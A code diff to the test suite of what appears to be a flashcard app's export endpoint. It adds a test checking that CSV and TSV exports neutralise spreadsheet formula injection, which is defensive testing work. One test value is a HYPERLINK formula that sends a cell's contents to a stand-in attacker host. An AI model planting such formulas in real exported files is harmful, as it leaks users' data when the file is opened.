@@ -52,20 +52,20 @@ const TRICKY = {
   examples: ['😀 Everyone, smile!', 'שלום עולם — RTL', 'tab\there'],
 };
 
-async function insertTrickyCard(owner: TestUser): Promise<string> {
+async function insertTrickyCard(owner: TestUser, content: typeof TRICKY = TRICKY): Promise<string> {
   const cardId = randomUUID();
   await stack.orm.em
     .fork()
     .execute(`INSERT INTO cards (id, user_id, text, normalised_key, enrichment_status, enrichment) VALUES (?, ?, ?, ?, 'ready', ?::jsonb)`, [
       cardId,
       owner.userId,
-      TRICKY.text,
+      content.text,
       `tricky ${cardId}`,
       JSON.stringify({
-        translation: TRICKY.translation,
+        translation: content.translation,
         correctedText: null,
         correctionNote: null,
-        usage: { register: 'neutral', guidance: TRICKY.guidance, examples: TRICKY.examples },
+        usage: { register: 'neutral', guidance: content.guidance, examples: content.examples },
         focuses: [{ kind: 'meaning', note: 'a "smile"' }],
       }),
     ]);
@@ -101,6 +101,34 @@ describe('GET /api/library/export', () => {
         correctedText: '',
       });
     }
+  });
+
+  it('csv and tsv: a cell a spreadsheet would evaluate starts with an apostrophe (OWASP CSV injection); the Anki file keeps it as HTML text', async () => {
+    const owner = await newUser(stack);
+    const hostile = {
+      text: '=HYPERLINK("http://attacker.example/?leak="&A2,"open")',
+      translation: '+SUM(1,1)',
+      guidance: '@SUM(1+1)',
+      examples: ['-2+3', '＝1+1', '\t=1+1'],
+    };
+    const cardId = await insertTrickyCard(owner, hostile);
+    for (const [format, separator] of [
+      ['csv', ','],
+      ['tsv', '\t'],
+    ] as const) {
+      const [header, ...rows] = parseDelimited((await download(owner, format)).text, separator);
+      const record = Object.fromEntries(header!.map((column, i) => [column, rows[0]![i]]));
+      expect(record).toMatchObject({
+        cardId,
+        text: `'${hostile.text}`,
+        translation: "'+SUM(1,1)",
+        usageGuidance: "'@SUM(1+1)",
+        examples: `'${hostile.examples.join('\n')}`,
+      });
+      for (const cell of rows[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+    }
+    const anki = (await download(owner, 'anki')).text;
+    expect(anki).toContain(`${cardId}\t+SUM(1,1)\t<b>=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A2,&quot;open&quot;)</b><br>@SUM(1+1)`);
   });
 
   it("is scoped to the caller: another user's cards never appear", async () => {
